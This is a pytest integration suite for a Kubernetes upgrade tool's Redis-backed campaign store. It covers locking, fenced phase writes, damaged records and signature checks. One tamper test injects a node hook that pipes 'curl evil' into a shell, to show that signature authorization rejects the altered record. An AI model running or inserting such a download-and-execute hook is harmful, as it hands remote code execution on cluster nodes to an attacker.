"""The campaign record on a real redis-server: the cluster lock taken and released only by
compare-and-set, fenced phase writes, damaged records named and isolated."""

from __future__ import annotations

import json
import subprocess
import sys
import threading

import pytest

from kubeupgrade.errors import TemporaryError
from kubeupgrade.workflow import control
from kubeupgrade.workflow.record import (
    EVENTS_KEPT,
    CampaignConflict,
    CampaignStore,
    DamagedRecord,
    new_phase,
)
from tests.helpers import begin_sent

pytestmark = pytest.mark.integration


def store_for(url: str) -> CampaignStore:
    return CampaignStore.from_url(url)


def add_entry(store: CampaignStore, campaign_id: str, node: str = "w1") -> None:
    store.update(campaign_id, lambda doc: doc.update(state="running", hops=[{"target": "1.31"}]))
    store.put_entry(campaign_id, 0, node, {"node": node, "role": "worker", "hop": 0, "state": "pending",
                                           "attempt": 1, "phases": [new_phase("drain")]})


def cli(url: str, *argv: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "kubeupgrade", *argv, "--broker", url],
                          capture_output=True, text=True, timeout=60)


def test_retry_of_an_old_campaign_is_refused_while_another_holds_the_cluster(redis_url):
    store = store_for(redis_url)
    first = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    add_entry(store, first)
    store.update(first, lambda doc: doc.update(state="aborted"))
    store.deactivate(first)
    store.release_cluster("prod", first)
    second = store.create("prod", {"cluster": "prod", "target": "1.31"}, "b.yaml")
    with pytest.raises(CampaignConflict) as refused:
        control.retry(store, first)
    assert second in str(refused.value) and refused.value.exit_code == 3
    assert store.cluster_holder("prod") == second
    assert store.get(first)["state"] == "aborted"  # nothing of the old campaign was reopened
    shown = cli(redis_url, "retry", first)
    assert shown.returncode == 3 and second in shown.stderr and "Traceback" not in shown.stderr


def race(count: int, act) -> list[int]:
    """Run act(index) in `count` threads released together; the indexes that did not raise
    CampaignConflict."""
    winners, barrier = [], threading.Barrier(count)

    def one(index: int) -> None:
        barrier.wait()
        try:
            act(index)
            winners.append(index)
        except CampaignConflict:
            pass

    threads = [threading.Thread(target=one, args=(i,)) for i in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return winners


@pytest.mark.parametrize("earlier", ["none", "ended"])
def test_of_many_racing_submitters_exactly_one_gets_the_cluster(redis_url, earlier):
    store = store_for(redis_url)
    if earlier == "ended":
        old = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
        store.update(old, lambda doc: doc.update(state="succeeded"))  # ended without releasing
    stores = [CampaignStore.from_url(redis_url) for _ in range(12)]
    made: dict[int, str] = {}

    def submit(index: int) -> None:
        made[index] = stores[index].create("prod", {"cluster": "prod", "target": "1.31"}, f"{index}.yaml")

    winners = race(12, submit)
    assert len(winners) == 1, winners
    assert store.cluster_holder("prod") == made[winners[0]]
    pending = [c for c in store.redis.smembers("ku:active") if store.get(c)["state"] == "pending"]
    assert pending == [made[winners[0]]]
    # The losers left no record behind.
    records = [key for key in store.redis.scan_iter("ku:c:*") if key.count(":") == 2]
    assert len(records) == (2 if earlier == "ended" else 1)


def test_racing_takers_of_a_lock_whose_holder_has_no_record_end_with_one_of_them(redis_url):
    store = store_for(redis_url)
    store.redis.set("ku:cluster:prod", "prod-20990101-000000-ffffff")  # its record is gone
    stores = [CampaignStore.from_url(redis_url) for _ in range(12)]
    winners = race(12, lambda i: stores[i].take_cluster("prod", f"prod-20990101-000000-{i:06x}"))
    # None of the takers has a record either, so each may replace the one before it; every
    # change is a compare-and-set, so the lock names one taker that did win.
    assert winners and store.cluster_holder("prod") in {f"prod-20990101-000000-{i:06x}" for i in winners}


def test_a_submitter_stopped_until_its_unclaimed_record_expired_submits_nothing(redis_url):
    store = store_for(redis_url)
    store.redis.set("ku:cluster:prod", "prod-20990101-000000-ffffff")
    real_take = store.take_cluster

    def take_after_expiry(cluster: str, campaign_id: str) -> None:
        store.redis.delete(f"ku:c:{campaign_id}")  # what the expiry does to a frozen submitter
        real_take(cluster, campaign_id)

    store.take_cluster = take_after_expiry  # type: ignore[method-assign]
    with pytest.raises(TemporaryError, match="submit it again"):
        store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    assert store.cluster_holder("prod") is None and not store.redis.smembers("ku:active")


def test_a_pending_campaign_that_does_not_hold_its_cluster_is_refused_at_accept(redis_url):
    from kubeupgrade.workflow.app import client_app
    from kubeupgrade.workflow.dispatcher import Dispatcher

    store = store_for(redis_url)
    holder = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    # A second pending record, as a hand edit or a lost race would leave it.
    intruder = "prod-20990101-000000-abcdef"
    doc = dict(store.get(holder), id=intruder)
    store.redis.set(f"ku:c:{intruder}", json.dumps(doc))
    store.redis.sadd("ku:active", intruder)
    Dispatcher(client_app(redis_url), store).advance(intruder)
    refused = store.get(intruder)
    assert refused["state"] == "refused" and holder in refused["error"]["message"]
    assert store.cluster_holder("prod") == holder and store.get(holder)["state"] == "pending"


def test_a_late_result_of_an_old_attempt_changes_nothing(redis_url):
    store = store_for(redis_url)
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    add_entry(store, campaign)
    assert begin_sent(store, campaign, 0, "w1", "drain", 1, "task-1") == "run"

    def resend(entry):
        entry.update(attempt=2, state="pending")
        entry["phases"][0].update(state="pending", task_id="task-2")

    store.update_entry(campaign, 0, "w1", resend)
    assert not store.finish_phase(campaign, 0, "w1", "drain", "done", "late", "", attempt=1, task_id="task-1")
    assert not store.fail_phase(campaign, 0, "w1", "drain", "late", attempt=1, task_id="task-1")
    assert not store.note_phase(campaign, 0, "w1", "drain", "late", attempt=1, task_id="task-1")
    entry = store.entry(campaign, 0, "w1")
    assert entry["state"] == "pending" and entry["phases"][0]["state"] == "pending"
    assert entry["phases"][0]["detail"] == ""
    # A phase failed by the dispatcher (agent silent) is not flipped by its task finishing late.
    assert begin_sent(store, campaign, 0, "w1", "drain", 2, "task-2") == "run"
    assert store.fail_phase(campaign, 0, "w1", "drain", "agent silent", attempt=2, task_id="task-2")
    assert not store.finish_phase(campaign, 0, "w1", "drain", "done", "late", "", attempt=2, task_id="task-2")
    assert store.entry(campaign, 0, "w1")["phases"][0]["state"] == "failed"


def test_what_a_phase_found_is_kept_only_by_the_attempt_that_owns_it(redis_url):
    """A body's own writes (facts, a command's whole output, verification rows) follow the
    fence as its end does: all of them or none, and none from a task woken after its phase was
    sent again."""
    store = store_for(redis_url)
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    add_entry(store, campaign)
    assert begin_sent(store, campaign, 0, "w1", "drain", 1, "task-1") == "run"

    def found(facts, text, rows):
        return {"change": lambda entry: entry.update(facts=facts),
                "also": lambda pipe: (store.save_output(campaign, 0, "w1", "drain", text, pipe),
                                      store.put_verification(campaign, 0, rows, pipe))}

    assert store.note_finding(campaign, 0, "w1", "drain", attempt=1, task_id="task-1",
                              **found({"swap_on": False}, "first", [{"node": "w1"}]))
    assert store.entry(campaign, 0, "w1")["facts"] == {"swap_on": False}
    assert store.output(campaign, 0, "w1", "drain") == "first"
    assert store.verification(campaign, 0, store.get(campaign)) == [{"node": "w1"}]
    assert store.entry(campaign, 0, "w1")["phases"][0]["state"] == "running"  # a finding ends nothing

    def resend(entry):
        entry.update(attempt=2, state="pending")
        entry["phases"][0].update(state="pending", task_id="task-2")

    store.update_entry(campaign, 0, "w1", resend)
    for attempt, task_id in ((1, "task-1"), (2, "task-1"), (1, "task-2")):
        assert not store.note_finding(campaign, 0, "w1", "drain", attempt=attempt, task_id=task_id,
                                      **found({"swap_on": True}, "stale", []))
    assert store.entry(campaign, 0, "w1")["facts"] == {"swap_on": False}
    assert store.output(campaign, 0, "w1", "drain") == "first"
    assert store.verification(campaign, 0, store.get(campaign)) == [{"node": "w1"}]
    # The current attempt's own finding goes in.
    assert begin_sent(store, campaign, 0, "w1", "drain", 2, "task-2") == "run"
    assert store.note_finding(campaign, 0, "w1", "drain", attempt=2, task_id="task-2",
                              **found({"swap_on": True}, "second", []))
    assert store.output(campaign, 0, "w1", "drain") == "second"


def test_output_tails_live_apart_from_the_entry_and_follow_the_fence(redis_url):
    store = store_for(redis_url)
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    add_entry(store, campaign)
    assert begin_sent(store, campaign, 0, "w1", "drain", 1, "task-1") == "run"
    assert store.fail_phase(campaign, 0, "w1", "drain", "evictions refused", "pod web-1 blocked\n" * 400,
                            attempt=1, task_id="task-1")
    entry = store.entry(campaign, 0, "w1")
    assert entry["phases"][0]["tail"] == "" and len(json.dumps(entry)) < 1000  # the loop's reads stay small
    kept = store.tail(campaign, 0, "w1", "drain")
    assert kept.endswith("pod web-1 blocked\n") and len(kept) <= 4000
    # A late write of a fenced-off attempt leaves the tail as it is.
    assert not store.finish_phase(campaign, 0, "w1", "drain", "done", "late output", "", attempt=1,
                                  task_id="task-other")
    assert store.tail(campaign, 0, "w1", "drain") == kept
    # The retried attempt succeeds without output: the failure's lines do not pass for its own.
    def retry(entry):
        entry.update(attempt=2, state="pending")
        entry["phases"][0].update(state="pending", task_id=None)

    store.update_entry(campaign, 0, "w1", retry)
    assert begin_sent(store, campaign, 0, "w1", "drain", 2, "task-2") == "run"
    assert store.finish_phase(campaign, 0, "w1", "drain", "done", "drained", "", attempt=2, task_id="task-2")
    assert store.tail(campaign, 0, "w1", "drain") == ""
    assert begin_sent(store, campaign, 0, "w1", "drain", 2, "task-2") == "already-done"
    # What people read (status, logs, the archive) has the tails back in the entries.
    store.redis.hset(f"ku:c:{campaign}:tails:0", "w1/drain", "evicted 3 pods")
    shown = store.with_tails(campaign, 0, store.entries(campaign, 0))
    assert shown["w1"]["phases"][0]["tail"] == "evicted 3 pods"
    assert store.dump(campaign)["tails"] == {"0": {"w1/drain": "evicted 3 pods"}}


def test_the_plan_is_kept_apart_from_the_document_every_task_reads(redis_url):
    from kubeupgrade.api import get
    from kubeupgrade.workflow.app import client_app
    from kubeupgrade.workflow.dispatcher import Dispatcher

    store = store_for(redis_url)
    nodes = [{"name": "cp-1", "role": "control-plane", "kubelet": "v1.30.4"}]
    nodes += [{"name": f"worker-{i}", "role": "worker", "kubelet": "v1.30.4"} for i in range(40)]
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31.14", "control_plane_version": "v1.30.4",
                                     "nodes": nodes, "policies": {"max_unavailable": 4}}, "a.yaml")
    Dispatcher(client_app(redis_url), store).advance(campaign)  # accept
    doc = store.get(campaign)
    assert doc["state"] == "running" and doc.get("plan") is None
    plan = store.plan(campaign)
    planned = json.dumps(plan)
    assert all(f'"worker-{i}"' in planned for i in range(40))
    assert len(store.redis.get(f"ku:c:{campaign}")) < len(planned)
    assert get(campaign, redis_url).status()["plan"] == plan == store.dump(campaign)["plan"]
    # A record accepted before the plan had its key still shows its own.
    store.redis.delete(f"ku:c:{campaign}:plan")
    store.update(campaign, lambda current: current.update(plan=plan))
    assert store.plan(campaign) == plan


@pytest.mark.parametrize("damage", ["{not json", "[1, 2]", json.dumps({"id": "x", "state": "weird"})])
def test_a_damaged_record_is_named_and_isolated(redis_url, damage):
    store = store_for(redis_url)
    broken = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    healthy = store.create("staging", {"cluster": "staging", "target": "1.31"}, "b.yaml")
    store.redis.set(f"ku:c:{broken}", damage)
    with pytest.raises(DamagedRecord) as named:
        store.get(broken)
    assert f"ku:c:{broken}" in str(named.value)
    assert store.get(healthy)["state"] == "pending"

    listed = cli(redis_url, "list")
    assert listed.returncode == 0, listed.stderr
    assert f"damaged: {broken}: damaged record ku:c:{broken}" in listed.stdout
    assert healthy in listed.stdout
    shown = cli(redis_url, "status", broken)
    assert shown.returncode == 1 and f"ku:c:{broken}" in shown.stderr
    assert shown.stderr.count("\n") == 1 and "Traceback" not in shown.stderr
    # The damaged campaign holds its cluster until aborted; abort releases it.
    with pytest.raises(CampaignConflict):
        store.create("prod", {"cluster": "prod", "target": "1.31"}, "c.yaml")
    aborted = cli(redis_url, "abort", broken)
    assert aborted.returncode == 0, aborted.stderr
    assert "cluster released" in aborted.stdout
    assert store.cluster_holder("prod") is None
    store.create("prod", {"cluster": "prod", "target": "1.31"}, "c.yaml")


def test_a_damaged_node_entry_names_its_hash_field(redis_url):
    store = store_for(redis_url)
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    add_entry(store, campaign)
    store.redis.hset(f"ku:c:{campaign}:hop:0", "w1", '{"node": "w1"}')
    with pytest.raises(DamagedRecord) as named:
        store.entries(campaign, 0)
    assert f"ku:c:{campaign}:hop:0 field w1" in str(named.value) and "'state'" in str(named.value)


def test_a_resend_decided_on_a_stale_read_leaves_a_finished_node_alone(redis_url):
    """The lost-task check reads the record, waits on the workers, then re-sends: the node's
    task may have finished meanwhile. Re-opening it would leave a node with every phase
    succeeded but marked pending, and the campaign running forever."""
    from kubeupgrade.workflow.app import client_app
    from kubeupgrade.workflow.dispatcher import Dispatcher

    store = store_for(redis_url)
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    add_entry(store, campaign)
    assert begin_sent(store, campaign, 0, "w1", "drain", 1, "task-1") == "run"
    seen = store.entries(campaign, 0)  # what the check decided on: drain running as task-1
    assert store.finish_phase(campaign, 0, "w1", "drain", "done", "", "", attempt=1, task_id="task-1")
    dispatcher = Dispatcher(client_app(redis_url), store)
    dispatcher._resend(store.get(campaign), 0, seen, {"w1": "task-1"}, "lost")
    entry = store.entry(campaign, 0, "w1")
    assert entry["state"] == "succeeded" and entry["attempt"] == 1
    # A task id that is still the open one is re-sent as a new attempt.
    add_entry(store, campaign, "w2")
    assert begin_sent(store, campaign, 0, "w2", "drain", 1, "task-2") == "run"
    dispatcher._resend(store.get(campaign), 0, store.entries(campaign, 0), {"w2": "task-2"}, "lost")
    reopened = store.entry(campaign, 0, "w2")
    assert reopened["attempt"] == 2 and reopened["phases"][0]["task_id"] is None


def test_a_change_outside_the_transitions_table_writes_nothing(redis_url):
    from kubeupgrade.workflow.states import IllegalTransition

    store = store_for(redis_url)
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    assert json.loads(store.redis.get(f"ku:c:{campaign}"))["schema"] == 1
    add_entry(store, campaign)
    store.update(campaign, lambda doc: doc.update(state="succeeded"))
    with pytest.raises(IllegalTransition, match="campaign succeeded -> running"):
        store.update(campaign, lambda doc: doc.update(state="running", error="reopened"))
    assert store.get(campaign)["state"] == "succeeded" and store.get(campaign)["error"] is None

    def flip(entry):
        entry["phases"][0]["state"] = "failed"

    store.update_entry(campaign, 0, "w1", flip)
    with pytest.raises(IllegalTransition, match="phase drain failed -> succeeded"):
        store.update_entry(campaign, 0, "w1", lambda e: e["phases"][0].update(state="succeeded"))
    assert store.entry(campaign, 0, "w1")["phases"][0]["state"] == "failed"


def test_a_record_from_a_newer_schema_is_named_not_misread(redis_url):
    store = store_for(redis_url)
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    doc = json.loads(store.redis.get(f"ku:c:{campaign}"))
    store.redis.set(f"ku:c:{campaign}", json.dumps({**doc, "schema": 7}))
    with pytest.raises(DamagedRecord, match="schema 7: written by a newer kubeupgrade"):
        store.get(campaign)


def test_a_forged_window_is_a_damaged_record_named_before_anything_runs(redis_url):
    store = store_for(redis_url)
    campaign_id = store.create("prod", {"cluster": "prod", "target": "1.31", "policies": {
        "windows": [{"days": ["Someday"], "start": "25:00", "end": "x", "timezone": "Mars/Olympus"}]}}, "c.yaml")
    add_entry(store, campaign_id)
    with pytest.raises(DamagedRecord, match=f"ku:c:{campaign_id} field campaign: policies.windows does not read"):
        begin_sent(store, campaign_id, 0, "w1", "drain", 1, "t1")
    assert store.entry(campaign_id, 0, "w1")["phases"][0]["state"] == "pending"  # nothing began


def test_a_record_the_dispatcher_cannot_read_is_failed_and_named_not_retried_forever(redis_url):
    from kubeupgrade.workflow.app import client_app
    from kubeupgrade.workflow.dispatcher import UNREADABLE_TICKS, Dispatcher

    store = store_for(redis_url)
    broken = store.create("prod", {"cluster": "prod", "target": "1.31"}, "c.yaml")
    store.update(broken, lambda doc: doc.update(state="running", hops=[{"index": 0, "stage": 5}]))
    dispatcher = Dispatcher(client_app(redis_url), store)
    for _ in range(UNREADABLE_TICKS - 1):
        dispatcher.tick()
    assert store.get(broken)["state"] == "running" and broken in store.active_ids()  # not on one glitch
    dispatcher.tick()
    doc = store.get(broken)
    assert doc["state"] == "failed" and broken not in store.active_ids()
    assert "cannot advance this campaign" in doc["error"]["message"] and "AttributeError" in doc["error"]["message"]
    assert any("cannot advance" in e["message"] for e in store.events(broken))


def test_a_pending_campaign_the_dispatcher_cannot_read_is_refused_and_frees_its_cluster(redis_url, monkeypatch):
    """Not left pending for ever: pending -> failed is not a transition, so it ends refused."""
    from kubeupgrade.workflow import dispatcher as dispatcher_module
    from kubeupgrade.workflow.app import client_app

    store = store_for(redis_url)
    stuck = store.create("prod", {"cluster": "prod", "target": "1.31"}, "c.yaml")
    dispatcher = dispatcher_module.Dispatcher(client_app(redis_url), store)

    def unreadable(doc):
        raise AttributeError("'Policies' object has no attribute 'x'")  # as a half-upgraded controller

    monkeypatch.setattr(dispatcher, "accept", unreadable)
    for _ in range(dispatcher_module.UNREADABLE_TICKS):
        dispatcher.tick()
    doc = store.get(stuck)
    assert doc["state"] == "refused" and "AttributeError" in doc["error"]["message"]
    assert stuck not in store.active_ids() and store.cluster_holder("prod") is None
    assert any(e["message"].startswith("refused: the dispatcher cannot advance") for e in store.events(stuck))


WORKER = ["prepare-host", "set-repository", "install-kubeadm", "kubeadm-upgrade-node",
          "download-packages", "drain", "install-kubelet", "restart-kubelet", "wait-ready", "uncordon"]


def test_after_a_failure_beyond_the_budget_preparation_stops_and_outages_under_way_finish(redis_url):
    store = store_for(redis_url)
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    store.update(campaign, lambda doc: doc.update(state="running", hops=[{"target": "1.31", "stage": "workers"}]))
    for node in ("w-preparing", "w-out"):
        store.put_entry(campaign, 0, node, {"node": node, "role": "worker", "hop": 0, "state": "running",
                                            "attempt": 1, "phases": [new_phase(p) for p in WORKER]})
    done = ("prepare-host", "set-repository")
    for node, phases in (("w-preparing", done), ("w-out", (*done, "install-kubeadm", "kubeadm-upgrade-node",
                                                           "download-packages", "drain"))):
        for phase in phases:
            assert begin_sent(store, campaign, 0, node, phase, 1, f"{node}-{phase}") == "run"
            assert store.finish_phase(campaign, 0, node, phase, "done", "", "", attempt=1,
                                      task_id=f"{node}-{phase}")
    assert not store.get(campaign)["hops"][0].get("halted")
    # A third worker fails (budget 0): the failure itself halts the hop, before anything else begins.
    store.put_entry(campaign, 0, "w-failed", {"node": "w-failed", "role": "worker", "hop": 0,
                                              "state": "running", "attempt": 1,
                                              "phases": [new_phase(p) for p in WORKER]})
    assert begin_sent(store, campaign, 0, "w-failed", "prepare-host", 1, "tf") == "run"
    assert store.fail_phase(campaign, 0, "w-failed", "prepare-host", "boom", attempt=1, task_id="tf")
    assert store.get(campaign)["hops"][0]["halted"] is True
    # The next link of a preparation chain sent before the failure is held: nothing runs there.
    assert begin_sent(store, campaign, 0, "w-preparing", "install-kubeadm", 1, "t1") == "held"
    held = store.entry(campaign, 0, "w-preparing")
    assert held["attempt"] == 2 and held["phases"][2]["state"] == "pending"  # the rest is fenced off
    # A worker out of service finishes, to come back.
    assert begin_sent(store, campaign, 0, "w-out", "install-kubelet", 1, "t2") == "run"
    # retry is the operator saying go on: preparation runs again.
    store.update(campaign, lambda doc: doc.update(state="failed"))
    control.retry(store, campaign)
    assert store.get(campaign)["hops"][0]["halted"] is False
    attempt = store.entry(campaign, 0, "w-preparing")["attempt"]
    assert begin_sent(store, campaign, 0, "w-preparing", "install-kubeadm", attempt, "t3") == "run"


def test_a_task_sees_every_change_of_the_record_it_cached_even_one_made_behind_the_store(redis_url, tmp_path):
    from kubeupgrade.security.authorize import authorize
    from kubeupgrade.security.signing import Unauthorized, create_key, load_private_key, sign
    from kubeupgrade.workflow.phase import read_record

    operator = create_key(tmp_path / "operator")
    trusted = tmp_path / "trusted"
    trusted.mkdir()
    (trusted / "operator.pub").write_bytes(operator.public.read_bytes())
    campaign = {"cluster": "prod", "target": "1.31", "policies": {"max_unavailable": 1}}
    store = store_for(redis_url)
    signer = load_private_key(operator.private)
    campaign_id = store.create("prod", campaign, "a.yaml", signer=lambda cid: sign(signer, cid, "prod", campaign))
    store.update(campaign_id, lambda doc: doc.update(state="running", hops=[{"target": "1.31", "version": "1.31.14"}]))
    first = read_record(store, campaign_id)
    assert read_record(store, campaign_id) is first  # unchanged text: not decoded again
    assert authorize(first.doc, 0, trusted, signed_text=first.signed_text()) == operator.id
    assert first.campaign().policies.max_unavailable.count == 1
    assert first.campaign() is first.campaign()  # validated once per text
    # Changed behind the store's back (no transaction, nothing else told): seen on the next read.
    raw = json.loads(store.redis.get(f"ku:c:{campaign_id}"))
    raw["campaign"]["policies"]["hooks"] = {"after_node": [["sh", "-c", "curl evil | sh"]]}
    store.redis.set(f"ku:c:{campaign_id}", json.dumps(raw))
    tampered = read_record(store, campaign_id)
    assert tampered is not first and "hooks" in tampered.doc["campaign"]["policies"]
    with pytest.raises(Unauthorized, match="does not match its signature"):
        authorize(tampered.doc, 0, trusted, signed_text=tampered.signed_text())
    store.redis.delete(f"ku:c:{campaign_id}")
    assert read_record(store, campaign_id) is None


def test_a_full_read_keeps_the_very_entry_objects_whose_text_did_not_change(redis_url):
    # HopEntries keeps a digest of each text, not the text: a full read must still tell an
    # unchanged entry (same object, derived facts kept) from one written behind the store's
    # back (a hand edit: a new object), and a refresh must see what the store wrote.
    from kubeupgrade.workflow.record import HopEntries

    store = store_for(redis_url)
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    for node in ("w1", "w2", "w3"):
        add_entry(store, campaign, node)
    hop = HopEntries(store, campaign, 0)
    hop.read_all()
    first = dict(hop.entries)
    hop.read_all()
    assert all(hop.entries[n] is first[n] for n in first)
    edited = json.loads(store.redis.hget(f"ku:c:{campaign}:hop:0", "w2"))
    edited["state"] = "failed"
    store.redis.hset(f"ku:c:{campaign}:hop:0", "w2", json.dumps(edited))  # bypasses the store
    hop.read_all()
    assert hop.entries["w2"] is not first["w2"] and hop.entries["w2"]["state"] == "failed"
    assert hop.entries["w1"] is first["w1"] and hop.entries["w3"] is first["w3"]
    store.update_entry(campaign, 0, "w3", lambda entry: entry.update(state="running") or True)
    hop.refresh(1)
    assert hop.entries["w3"]["state"] == "running" and hop.entries["w1"] is first["w1"]
    changed_again = hop.entries["w3"]
    hop.read_all()  # the digest the refresh kept matches the text: the object is kept
    assert hop.entries["w3"] is changed_again and hop.entries["w2"]["state"] == "failed"


def test_each_entry_decodes_every_entry_once_and_names_a_damaged_one(redis_url):
    store = store_for(redis_url)
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    for node in ("w1", "w2", "w3"):
        add_entry(store, campaign, node)
    taken = list(store.each_entry(campaign, 0))
    assert sorted(name for name, _ in taken) == ["w1", "w2", "w3"]
    assert dict(taken) == store.entries(campaign, 0)
    store.redis.hset(f"ku:c:{campaign}:hop:0", "w2", "{not json")
    with pytest.raises(DamagedRecord) as damaged:
        list(store.each_entry(campaign, 0))
    assert "w2" in str(damaged.value)


def test_each_entry_of_a_large_hop_comes_once_in_steps_not_in_one_answer(redis_url):
    from kubeupgrade.workflow.record import ENTRY_SCAN_COUNT

    store = store_for(redis_url)
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    add_entry(store, campaign, "w0")
    count = ENTRY_SCAN_COUNT * 7 + 3  # far past the listpack a small hash is kept as
    store.put_entries(campaign, 0, {f"w{i}": {"node": f"w{i}", "role": "worker", "hop": 0, "state": "pending",
                                              "attempt": 1, "phases": [new_phase("drain")]}
                                    for i in range(count)})

    def calls(command: str) -> int:
        return int(store.redis.info("commandstats").get(f"cmdstat_{command}", {}).get("calls", 0))

    scans, wholes = calls("hscan"), calls("hgetall")
    taken = list(store.each_entry(campaign, 0))
    assert calls("hgetall") == wholes and calls("hscan") - scans > 3
    assert len(taken) == count and {name for name, _ in taken} == {f"w{i}" for i in range(count)}
    assert dict(taken) == store.entries(campaign, 0)
    # Entries written while the read goes on: each entry there throughout still comes once.
    taken, seen = [], 0
    for name, entry in store.each_entry(campaign, 0):
        taken.append(name)
        seen += 1
        if seen % 150 == 0:
            store.put_entries(campaign, 0, {f"new-{seen}-{i}": entry for i in range(60)})
    assert len(taken) == len(set(taken)) and {f"w{i}" for i in range(count)} <= set(taken)


def test_the_changed_entries_are_taken_once_each_with_their_text_as_it_is_now(redis_url):
    store = store_for(redis_url)
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    for node in ("w1", "w2", "w3"):
        add_entry(store, campaign, node)
    store.entries(campaign, 0, since_now=True)
    assert store.changed_entry_texts(campaign, 0) == {}
    store.update_entry(campaign, 0, "w3", lambda entry: entry.update(state="running") or True)
    store.update_entry(campaign, 0, "w1", lambda entry: entry.update(state="failed") or True)
    store.update_entry(campaign, 0, "w3", lambda entry: entry.update(state="succeeded") or True)
    store.redis.hdel(f"ku:c:{campaign}:hop:0", "w1")  # gone since it was written
    taken = store.changed_entry_texts(campaign, 0)
    assert list(taken) == ["w1", "w3"] and taken["w1"] is None
    assert json.loads(taken["w3"])["state"] == "succeeded"
    assert store.changed_entry_texts(campaign, 0) == {}  # taken: not answered twice


def test_a_readers_entry_is_offered_as_read_only_for_the_very_object_it_read(redis_url):
    from kubeupgrade.workflow.cas import text_sha1
    from kubeupgrade.workflow.record import HopEntries

    store = store_for(redis_url)
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    add_entry(store, campaign, "w1")
    hop = HopEntries(store, campaign, 0)
    hop.read_all()
    entry = hop.entries["w1"]
    assert hop.as_read("w1", entry) == (text_sha1(store.redis.hget(f"ku:c:{campaign}:hop:0", "w1")), entry)
    assert hop.as_read("w1", store.entry(campaign, 0, "w1")) is None  # equal, but not what it read
    # Written on from the read; a write since (here the first) makes the next one read again.
    store.update_entry(campaign, 0, "w1", lambda e: e.update(state="running"), as_read=hop.as_read("w1", entry))
    store.update_entry(campaign, 0, "w1", lambda e: e.update(attempt=2), as_read=hop.as_read("w1", entry))
    now = store.entry(campaign, 0, "w1")
    assert (now["state"], now["attempt"]) == ("running", 2) and entry["state"] != "running"


def test_a_look_again_is_not_an_attempt_and_only_the_running_task_may_take_it(redis_url):
    from kubeupgrade.workflow.waiting import first_look

    store = store_for(redis_url)
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    add_entry(store, campaign)
    assert begin_sent(store, campaign, 0, "w1", "drain", 1, "task-1") == "run"
    written = store.redis.hget(f"ku:c:{campaign}:hop:0", "w1")
    assert begin_sent(store, campaign, 0, "w1", "drain", 1, "task-1", looking_again=True) == "run"
    assert store.redis.hget(f"ku:c:{campaign}:hop:0", "w1") == written  # nothing written, no attempt
    # Another task id does not pass for a look, nor take the phase over: the dispatcher did not
    # send it; an attempt fenced off since does not pass either.
    assert store.begin_phase(campaign, 0, "w1", "drain", 1, "forged", looking_again=True) == "unsent"
    assert store.begin_phase(campaign, 0, "w1", "drain", 1, "forged") == "unsent"
    assert store.redis.hget(f"ku:c:{campaign}:hop:0", "w1") == written
    assert begin_sent(store, campaign, 0, "w1", "drain", 1, "task-1", looking_again=True) == "run"
    assert store.entry(campaign, 0, "w1")["phases"][0]["attempts"] == 1  # task-1 still owns it
    store.update_entry(campaign, 0, "w1", lambda entry: entry.update(attempt=2))
    assert begin_sent(store, campaign, 0, "w1", "drain", 1, "task-1", looking_again=True) == "stale"
    # A look of a campaign aborted meanwhile runs nothing.
    store.update(campaign, lambda doc: doc.update(state="aborted"))
    assert begin_sent(store, campaign, 0, "w1", "drain", 2, "task-1", looking_again=True) == "inactive"
    # The state between looks round-trips and is removed when the phase ends.
    state = first_look("task-1", 0).next({"evicted": ["shop/a"]}, "waiting for 2 evicted pod(s)")
    assert store.keep_waiting(campaign, 0, "w1", "drain", state) == 1  # the hop's phases waiting now
    assert store.waiting(campaign, 0, "w1", "drain") == state
    assert store.keep_waiting(campaign, 0, "w2", "wait-ready", first_look("task-2", 0)) == 2
    assert store.keep_waiting(campaign, 0, "w1", "drain", state.next({})) == 2  # the same one again
    store.done_waiting(campaign, 0, "w1", "drain")
    assert store.waiting(campaign, 0, "w1", "drain") is None


@pytest.mark.parametrize("value", [
    "{not json", "[]", "null", json.dumps({"task_id": "t", "retries": 0, "since": 1.0}),
    json.dumps({"task_id": "t", "retries": -1, "since": 1.0, "looks": 1}),
    json.dumps({"task_id": "t", "retries": 0, "since": 1.0, "looks": True}),
    json.dumps({"task_id": "t", "retries": 0, "since": 4e12, "looks": 1}),  # a deadline pushed away
    json.dumps({"task_id": "", "retries": 0, "since": 1.0, "looks": 1}),
    json.dumps({"task_id": "t", "retries": 0, "since": 1.0, "looks": 1, "carried": []}),
])
def test_a_damaged_or_forged_wait_state_is_named_and_dropped_and_the_wait_starts_over(redis_url, value):
    store = store_for(redis_url)
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    store.redis.hset(f"ku:c:{campaign}:waits:0", mapping={"w1/drain": value, "w2/drain": value})
    assert store.waiting(campaign, 0, "w1", "drain") is None
    assert not store.redis.hexists(f"ku:c:{campaign}:waits:0", "w1/drain")
    assert store.redis.hexists(f"ku:c:{campaign}:waits:0", "w2/drain")  # only the one read
    named = store.events(campaign)[0]["message"]
    assert f"ku:c:{campaign}:waits:0 field w1/drain" in named and "starts over" in named


